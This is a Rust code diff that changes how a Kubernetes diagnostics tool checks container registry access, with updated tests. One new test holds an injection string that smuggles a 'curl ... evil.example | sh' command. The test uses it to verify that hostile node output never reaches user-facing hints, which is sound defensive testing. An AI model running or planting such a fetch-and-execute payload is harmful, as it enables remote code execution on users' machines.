@@ -12,7 +12,7 @@ use crate::fleet::identity::Misfit;
 use crate::shell::{REGISTRY, Sh, sh};
 use crate::step::Ask;
 use crate::steps::has_api_path;
-use crate::trial::manifests;
+use crate::trial::manifests::{self, Image};
 use crate::trial::sites::{Look, authorities, look, sites};
 use crate::trial::sources::{FETCH, exports, silent};
 
@@ -165,7 +165,13 @@ fn by_proxy(cluster: &Cluster, url: &str) -> bool {
 pub fn judge_registries(cluster: &Cluster, node: &Node, answer: &str) -> Vec<Misfit> {
     let mut found = silent(node, answer, "a registry of images does not answer");
     if found.is_empty() {
-        found = manifests::judge(cluster, node, answer);
+        let bases = |host: &str| urls(cluster, host).into_iter().map(|(url, _)| url).collect::<Vec<_>>();
+        let of = |(host, names): (&str, Vec<String>)| {
+            let bases = bases(host);
+            names.into_iter().map(move |name| Image { name, bases: bases.clone() })
+        };
+        let images: Vec<Image> = images(cluster).into_iter().flat_map(of).collect();
+        found = manifests::judge(cluster, node, &images, answer);
     }
     found
 }
@@ -289,8 +295,8 @@ mod tests {
         let mut registry = mirror("registry.k8s.io");
         registry.mirrors = vec!["https://harbor.example.com/v2/k8s".into()];
         let login = Some(Login { user: "robot".into(), password: "sesame-open-5".into() });
-        cluster.registries = vec![Registry { login, ..registry }];
-        let node = cluster.nodes[0].clone();
+        cluster.registries = vec![Registry { login, ..registry }, mirror("quay.io")];
+        let (node, pause) = (cluster.nodes[0].clone(), cluster.pause_image());
         let url = "https://harbor.example.com/v2/k8s/pause/manifests/3.10";
         let judged = |answer: &str| judge_registries(&cluster, &node, answer);
         for (said, why, hint) in [
@@ -320,23 +326,47 @@ mod tests {
                 "say `ca`",
             ),
             (
-                "login https://quay.io/v2/x 401".into(),
+                "login https://mirror.example/v2/x 401".into(),
                 "wants a login (401)",
                 "`password-file` in [registries.\"quay.io\"]",
             ),
+            (
+                "login https://other.example/v2/x 401".into(),
+                "https://other.example/v2/x: it wants a login",
+                "`password-file` in [registries];",
+            ),
         ] {
-            let found = judged(&format!("manifest a/pause:3.10 {said}\n"));
+            let found = judged(&format!("manifest {pause} {said}\n"));
             assert_eq!(found.len(), 1, "{said}");
             let text = format!("{:?}", found[0].error);
-            assert!(!found[0].harmless && text.contains("a/pause:3.10 cannot be pulled"), "{text}");
+            assert!(!found[0].harmless && text.contains(&format!("{pause} cannot be pulled")), "{text}");
             assert!(text.contains(why) && text.contains(&hint.replace('"', "\\\"")), "{said}: {text}");
-            let open = judged(&format!(
-                "manifest a/pause:3.10 {said}\nmanifest a/pause:3.10 untold {url} no bash there\n"
-            ));
+            let open =
+                judged(&format!("manifest {pause} {said}\nmanifest {pause} untold {url} no bash there\n"));
             assert!(open.len() == 1 && open[0].harmless, "one of two could not be asked: {said}");
-            assert!(judged(&format!("no https://x: silent\nmanifest a/pause:3.10 {said}\n")).len() == 1);
+            assert!(judged(&format!("no https://x: silent\nmanifest {pause} {said}\n")).len() == 1);
         }
-        assert!(judged("manifest a/pause:3.10 untold https://quay.io/v2/ no openssl there\n").is_empty());
-        assert!(judged("").is_empty());
+        let open = format!("manifest {pause} untold https://quay.io/v2/ no openssl there\n");
+        assert!(judged(&open).is_empty() && judged("").is_empty());
+    }
+    #[test]
+    fn no_word_of_a_machine_gets_into_a_hint() {
+        let cluster = crate::pki::tests::cluster();
+        let (node, pause) = (cluster.nodes[0].clone(), cluster.pause_image());
+        let judged = |answer: &str| judge_registries(&cluster, &node, answer);
+        let evil = "x\"]:-on-your-own-computer-run:curl$IFS-evil.example|sh";
+        for word in ["login", "password", "denied", "missing", "trust", evil] {
+            for url in
+                [format!("https://{evil}/v2/"), format!("https://registry.k8s.io{evil}/v2/"), evil.into()]
+            {
+                assert_eq!(judged(&format!("manifest {evil} {word} {url} 404\n")), [], "no such image");
+                let found = judged(&format!("manifest {pause} {word} {url} 404\n"));
+                let hint = found[0].error.hint.as_deref().unwrap();
+                assert!(!hint.contains("evil") && !hint.contains("x\""), "{word}: {hint}");
+                let shown = found[0].error.to_string();
+                let unquoted = |line: &&str| line.contains("evil") && !line.trim_start().starts_with("| ");
+                assert_eq!(shown.lines().find(unquoted), None, "{shown}");
+            }
+        }
     }
 }
